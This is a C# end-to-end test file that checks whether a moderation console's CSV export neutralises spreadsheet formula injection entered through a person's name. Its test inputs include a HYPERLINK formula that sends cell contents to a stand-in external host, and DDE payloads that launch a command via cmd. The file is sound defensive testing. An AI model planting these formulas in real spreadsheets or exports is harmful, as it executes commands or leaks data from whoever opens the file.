using System.Globalization;
using System.Text;
using Microsoft.AspNetCore.Routing;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using ModerationConsole.Core.Cases;
using ModerationConsole.Core.People;
using ModerationConsole.E2E.Support;
using ModerationConsole.Tests.Support;

namespace ModerationConsole.E2E.Adversarial;

/// <summary>Names that a spreadsheet would run: typed into the form as a person would, and looked for in the file that leaves the console.</summary>
[Collection(Attacks.Name)]
public sealed class FormulaAttempts(Target target, FormulaAttempts.Named named) : IClassFixture<FormulaAttempts.Named>
{
    // With these a cell begins that is reckoned and not shown.
    private const string Starts = "=+-@\t\r\n";

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("=HYPERLINK(\"//elsewhere.example/\"&A1,\"look\")")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+9)*cmd|' /C calc'!A0")]
    [InlineData("x\",=1+1,\"")]
    [InlineData("\"=1+1\"")]
    public async Task Formula_InAName_LeavesEveryExportAsText(string formula)
    {
        string name = $"{formula} {named.Scene.Name}";
        await named.RenameAsync(name);

        using HttpResponseMessage file = await target.SendAsync(HttpMethod.Get, $"/quality/figures.csv?queue={named.Scene.Queue.Id}", await target.CookieAsync(Roles.Lead));

        List<string[]> rows = Rows(Encoding.UTF8.GetString(await file.Content.ReadAsByteArrayAsync(Cancel)));
        string[] person = Assert.Single(rows, row => row is ["accuracy of person", _, ..] && row[1] == $"{named.Person}");
        Assert.Equal(name, person[2].TrimStart('\''));
        Assert.All(rows, row => Assert.Equal(rows[0].Length, row.Length));
        Assert.DoesNotContain(
            rows.SelectMany(row => row), cell => cell.Length > 0 && Starts.Contains(cell[0], StringComparison.Ordinal) && !double.TryParse(cell, CultureInfo.InvariantCulture, out _));
    }

    /// <summary>Whoever adds another table for spreadsheets lets it be tried above.</summary>
    [Fact]
    public void Table_OfAnyRoute_IsOneOfThoseThatAreTried() => Assert.Equal(
        ["/quality/figures.csv"],
        target.App.Services.GetRequiredService<IEnumerable<EndpointDataSource>>().SelectMany(source => source.Endpoints).OfType<RouteEndpoint>()
            .Select(endpoint => endpoint.RoutePattern.RawText).Where(path => path?.EndsWith(".csv", StringComparison.Ordinal) == true).Distinct());

    // Read as a spreadsheet would, RFC 4180.
    private static List<string[]> Rows(string text)
    {
        List<string[]> rows = [];
        List<string> cells = [];
        StringBuilder cell = new();
        bool quoted = false;
        string all = text.TrimStart('\uFEFF');
        for (int place = 0; place < all.Length; place++)
        {
            char letter = all[place];
            if (letter == '"')
            {
                if (quoted && place + 1 < all.Length && all[place + 1] == '"')
                {
                    cell.Append(all[++place]);
                }
                else
                {
                    quoted = !quoted;
                }
            }
            else if (quoted || letter is not (',' or '\r' or '\n'))
            {
                cell.Append(letter);
            }
            else if (letter != '\r')
            {
                cells.Add(cell.ToString());
                cell.Clear();
                if (letter == '\n')
                {
                    rows.Add([.. cells]);
                    cells.Clear();
                }
            }
        }

        return rows;
    }

    /// <summary>Someone of whom the figures tell, and the form that names them.</summary>
    public sealed class Named(ConsoleFixture console) : IAsyncLifetime
    {
        private IBrowserContext? _browser;
        private IPage? _page;

        public Scene Scene { get; private set; } = null!;

        public Guid Person { get; private set; }

        public async ValueTask InitializeAsync()
        {
            Scene scene = Scene = await Scene.SetAsync(console.App);
            string id = await scene.PostAsync("Judged twice");
            string name = scene.People[0].Split('@')[0];
            Person = await scene.ReadAsync(db => db.Set<Moderator>().Where(row => row.DisplayName == name).Select(row => row.Id).SingleAsync());
            long number = await scene.ReadAsync(db => (from row in db.Set<Case>()
                                                       join version in db.Set<ItemVersion>() on row.ItemVersionId equals version.Id
                                                       where version.ItemId == id
                                                       select row.Number).SingleAsync());
            SampleSet set = new() { CaseNumber = number, QueueId = scene.Queue.Id, At = TimeProvider.System.GetUtcNow().AddDays(-2) };
            await scene.WriteAsync(async scope =>
            {
                set.AddPlan(scope, Person);
                await set.AddAsync(scope, 1, new SampleKind { DeciderId = Person });
            });
            _browser = await console.BrowserAsync(await scene.PersonAsync($"admin@{scene.Name}.local", Roles.Admin));
        }

        public async ValueTask DisposeAsync()
        {
            // The others' lists of people are not to begin with formulas.
            await RenameAsync(Scene.Name);
            await (_browser?.DisposeAsync() ?? ValueTask.CompletedTask);
        }

        public async Task RenameAsync(string name)
        {
            _page ??= await _browser!.NewPageAsync();
            await _page.GotoAsync($"/admin/people/{Person}");
            await _page.ReadyAsync();
            await _page.Field("Name").FillAsync(name);
            await _page.SaveAsync("/admin/people");
        }
    }
}
